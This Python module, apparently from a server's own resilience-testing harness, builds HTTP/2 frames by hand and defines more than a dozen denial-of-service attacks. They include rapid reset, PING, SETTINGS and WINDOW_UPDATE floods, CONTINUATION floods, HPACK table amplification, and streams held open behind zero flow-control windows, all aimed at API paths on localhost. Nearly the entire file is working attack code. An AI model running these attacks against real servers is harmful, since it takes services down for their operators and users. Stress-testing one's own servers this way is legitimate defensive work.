"""Attacks over HTTP/2 with frames written by hand (RFC 9113)."""

import collections
import select
import ssl
import struct
import time

from hostile.attack import attack
from hostile.bodies import upload_large
from hostile.client import authorization, connect, encoded, tls_context

DATA, HEADERS, PRIORITY, RESET, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
NAMES = ["DATA", "HEADERS", "PRIORITY", "RST_STREAM", "SETTINGS", "PUSH_PROMISE", "PING", "GOAWAY", "WINDOW_UPDATE", "CONTINUATION"]
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW = 4
CONTEXT = tls_context(("h2",))


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def number(value, bits):
    """An integer of HPACK, behind a prefix of this many bits that are zero in its first byte."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([value])
    value, out = value - most, bytearray([most])
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes([*out, value])


def literal(name, value, indexed=False):
    """A header field with its name; `indexed` ones enter the table of the connection."""
    return (b"\x40" if indexed else b"\0") + number(len(name), 7) + name.encode() + number(len(value), 7) + value.encode()


def request_head(path, account=None, method="GET", more=(), indexed=()):
    fields = [(":method", method), (":scheme", "https"), (":authority", "localhost"), (":path", path)]
    fields += [(name.lower(), value) for name, value in authorization(account).items()]
    return b"".join(literal(name, value, name in indexed) for name, value in [*fields, *more])


class Frames:
    """A connection. It reads while it writes, since a server that cannot write does not read either."""

    def __init__(self, me, settings=b"", reads=True, buffer=None):
        self.me, self.reads = me, reads
        self.socket = connect(me.world, True, CONTEXT, 5, buffer)
        if self.socket.selected_alpn_protocol() != "h2":
            raise RuntimeError("the server does not speak HTTP/2")
        self.socket.setblocking(False)
        self.received, self.seen = bytearray(), collections.Counter()
        self.stream = -1
        me.count("connections")
        self.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))

    def write(self, data):
        view = memoryview(data)
        while len(view):
            if self.me.is_over():
                return
            try:
                view = view[self.socket.send(view[:16384]):]
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                select.select([self.socket], [self.socket], [], 0.1)
            if self.reads:
                self.drain()

    def drain(self):
        """Reads and counts what is there."""
        try:
            while part := self.socket.recv(1 << 16):
                self.received += part
                self.parse()
            raise ConnectionResetError
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass

    def parse(self):
        at = 0
        while len(self.received) - at >= 9:
            length = int.from_bytes(self.received[at:at + 3], "big")
            if len(self.received) - at < 9 + length:
                break
            kind, flags = self.received[at + 3], self.received[at + 4]
            name = NAMES[kind] if kind < len(NAMES) else "other"
            self.seen[kind] += 1
            self.me.count(f"got {name}")
            if kind == HEADERS and length:
                # The status is first; those of the static table are 8 to 14.
                status = {0x88: 200, 0x89: 204, 0x8B: 304, 0x8C: 400, 0x8D: 404, 0x8E: 500}.get(self.received[at + 9])
                self.me.count(status or "another status")
            if kind == GOAWAY:
                self.me.count("cut by GOAWAY")
            at += 9 + length
            if kind == SETTINGS and not flags & 1:
                self.write_soon(frame(SETTINGS, 1))
            if kind == DATA and length:
                self.write_soon(frame(WINDOW, 0, 0, struct.pack(">I", length)))
        del self.received[:at]

    def write_soon(self, data):
        """Writes a few bytes, or leaves it: they are of no consequence for an attack."""
        try:
            self.socket.send(data)
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass

    def wait(self, kind, most, seconds=5):
        """Waits until this many frames of a kind have arrived."""
        end = time.monotonic() + seconds
        while self.seen[kind] < most and time.monotonic() < end and not self.me.is_over():
            select.select([self.socket], [], [], 0.05)
            self.drain()

    def next_stream(self):
        self.stream += 2
        return self.stream

    def close(self):
        self.socket.close()


def flood(me, connections, batch_of, settings=b"", counted="frames", size=1, buffer=None, reads=True):
    """Writes batches on several connections; those that the server ends are replaced."""

    def run(index):
        frames = Frames(me, settings, reads, buffer)
        try:
            while not me.is_over():
                frames.write(batch_of(frames))
                me.count(counted, size)
        finally:
            frames.close()

    me.threads(connections, run)


@attack("HTTP/2: rapid reset", tls=True, processes=3, proof=("streams",))
def rapid_reset(me):
    account = me.world.members[me.number]
    heads = request_head("/api/v1/messages?anchor=newest&num_before=5000&num_after=0", account)

    def batch(frames):
        out = b""
        for _ in range(50):
            stream = frames.next_stream()
            out += frame(HEADERS, END_HEADERS | END_STREAM, stream, heads) + frame(RESET, 0, stream, struct.pack(">I", 8))
        return out

    flood(me, 4, batch, counted="streams", size=50)


@attack("HTTP/2: pings", tls=True, processes=3, proof=("got PING",))
def pings(me):
    batch = frame(PING, 0, 0, b"abcdefgh") * 500
    flood(me, 2, lambda _: batch, size=500)


@attack("HTTP/2: pings without reading", tls=True, processes=3, proof=("frames",))
def unread_pings(me):
    batch = frame(PING, 0, 0, b"abcdefgh") * 500
    flood(me, 4, lambda _: batch, size=500, buffer=4096, reads=False)


@attack("HTTP/2: settings", tls=True, processes=3, proof=("got SETTINGS",))
def settings(me):
    values = b"".join(struct.pack(">HI", 1 + n % 6, 16384 if 1 + n % 6 == 5 else n % 2 if 1 + n % 6 == 2 else 65535) for n in range(60))
    batch = frame(SETTINGS, 0, 0, values) * 100
    flood(me, 2, lambda _: batch, size=100)


@attack("HTTP/2: priorities", tls=True, processes=3, proof=("frames",))
def priorities(me):
    batch = b"".join(frame(PRIORITY, 0, 1 + 2 * n, struct.pack(">IB", 0, n % 256)) for n in range(1, 500))
    flood(me, 2, lambda _: batch, size=499)


@attack("HTTP/2: window updates", tls=True, processes=3, proof=("frames",))
def windows(me):
    batch = frame(WINDOW, 0, 0, struct.pack(">I", 1)) * 500
    flood(me, 2, lambda _: batch, size=500)


@attack("HTTP/2: empty data", tls=True, processes=3, proof=("frames",))
def empty_data(me):
    begin = request_head("/api/v1/bot_storage", me.world.members[me.number], "PUT", [("content-type", "application/x-www-form-urlencoded")])

    def batch(frames):
        first = b""
        if frames.stream < 0:
            first = frame(HEADERS, END_HEADERS, frames.next_stream(), begin)
        return first + frame(DATA, 0, frames.stream) * 500

    flood(me, 2, batch, size=500)


@attack("HTTP/2: continuations", tls=True, processes=3, proof=("frames",))
def continuations(me):
    fields = b"".join(literal(f"x-{n}", "a" * 60) for n in range(200))[:16000]

    def batch(frames):
        if frames.stream < 0:
            return frame(HEADERS, END_STREAM, frames.next_stream(), request_head("/api/v1/users/me"))
        return frame(CONTINUATION, 0, frames.stream, fields) * 8

    flood(me, 4, batch, size=8)


@attack("HTTP/2: empty continuations", tls=True, processes=3, proof=("frames",))
def empty_continuations(me):
    def batch(frames):
        if frames.stream < 0:
            return frame(HEADERS, END_STREAM, frames.next_stream(), request_head("/api/v1/users/me"))
        return frame(CONTINUATION, 0, frames.stream) * 500

    flood(me, 4, batch, size=500)


@attack("HTTP/2: compressed headers", tls=True, processes=3, proof=("streams",))
def compressed(me):
    """A field of 4 KB in the table, and a byte for each of its thousands of repetitions."""
    entry = literal("x-a", "a" * 3900, indexed=True)

    def batch(frames):
        out = b""
        for _ in range(10):
            # 62 is the newest entry of the table.
            block = request_head("/api/v1/users/me") + (entry if frames.stream < 0 else b"") + b"\xbe" * 15_000
            out += frame(HEADERS, END_HEADERS | END_STREAM, frames.next_stream(), block)
        return out

    flood(me, 2, batch, counted="streams", size=10)


@attack("HTTP/2: many streams", tls=True, processes=2, proof=("200", "another status"))
def many_streams(me):
    def run(index):
        account = me.world.members[(me.number * 3 + index) % len(me.world.members)]
        heads = request_head("/api/v1/messages?anchor=newest&num_before=200&num_after=0", account)
        frames = Frames(me, struct.pack(">HI", INITIAL_WINDOW, 1 << 24))
        try:
            while not me.is_over():
                frames.seen.clear()
                frames.write(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, frames.next_stream(), heads) for _ in range(100)))
                me.count("streams", 100)
                frames.wait(HEADERS, 100)
        finally:
            frames.close()

    me.threads(3, run)


def held_streams(me, connections, heads_of, settings, body=b""):
    """Opens a hundred streams on each of many connections, and keeps them."""
    open_ones = []
    while not me.is_over():
        if len(open_ones) < connections:
            try:
                frames = Frames(me, settings)
                heads = heads_of(len(open_ones))
                flags = END_HEADERS | (0 if body else END_STREAM)
                for _ in range(100):
                    stream = frames.next_stream()
                    frames.write(frame(HEADERS, flags, stream, heads) + (frame(DATA, 0, stream, body) if body else b""))
                me.count("streams", 100)
                open_ones.append(frames)
            except OSError as error:
                me.count(f"cut ({type(error).__name__})")
        else:
            time.sleep(0.05)
        for frames in list(open_ones):
            try:
                frames.drain()
            except OSError as error:
                me.count(f"cut ({type(error).__name__})")
                open_ones.remove(frames)
    me.count("held at the end", len(open_ones))


@attack("HTTP/2: paths that keep their frames", tls=True, processes=2, proof=("streams",))
def kept_frames(me):
    """A hundred paths in the table of each connection, each decoded from a frame of its own of 15 KB."""
    heads = request_head("/api/v1/server_settings", more=[("x-filler", "a" * 15_000)], indexed=[":path"])
    held_streams(me, 200, lambda n: heads, b"")


@attack("HTTP/2: unread streams", tls=True, processes=3, proof=("streams",))
def unread_streams(me):
    """Large answers, of which the window lets nothing pass."""
    accounts = me.world.members + me.world.guests
    path = "/api/v1/messages?anchor=newest&num_before=5000&num_after=0"
    held_streams(me, 40, lambda n: request_head(path, accounts[(n + 5 * me.number) % len(accounts)]), struct.pack(">HI", INITIAL_WINDOW, 0))


@attack("HTTP/2: unread small answers", tls=True, processes=3, proof=("streams",))
def unread_small(me):
    """Answers that are too short to count as large ones, and have to wait for the most part."""
    accounts = me.world.members + me.world.guests
    path = "/api/v1/messages?anchor=newest&num_before=75&num_after=0"
    heads = [request_head(path, account) for account in accounts]
    held_streams(me, 50, lambda n: heads[(n + 5 * me.number) % len(heads)], struct.pack(">HI", INITIAL_WINDOW, 1))


@attack("HTTP/2: unread downloads", prepare=upload_large, tls=True, processes=3, proof=("streams",))
def unread_downloads(me):
    """A byte may pass, so that the server has the rest of a part of the file in its hands."""
    heads = request_head(me.data, me.world.members[0])
    held_streams(me, 20, lambda _: heads, struct.pack(">HI", INITIAL_WINDOW, 1))


@attack("HTTP/2: streams of strangers without ends", tls=True, processes=3, proof=("streams",))
def endless_streams(me):
    heads = request_head("/api/v1/fetch_api_key", None, "POST", [("content-type", "application/x-www-form-urlencoded")])
    held_streams(me, 60, lambda _: heads, b"", b"username=" + b"a" * 1200)


@attack("HTTP/2: requests", tls=True, processes=2, proof=("200",))
def requests(me):
    """A hundred requests at a time that change something."""
    body = encoded({"type": "stream", "to": "general", "topic": "t", "content": "word"})

    def run(index):
        account = me.world.members[(me.number * 2 + index) % len(me.world.members)]
        heads = request_head("/api/v1/messages", account, "POST", [("content-type", "application/x-www-form-urlencoded")])
        frames = Frames(me)
        try:
            while not me.is_over():
                frames.seen.clear()
                streams = [frames.next_stream() for _ in range(100)]
                frames.write(b"".join(frame(HEADERS, END_HEADERS, one, heads) + frame(DATA, END_STREAM, one, body) for one in streams))
                frames.wait(HEADERS, 100)
        finally:
            frames.close()

    me.threads(2, run)
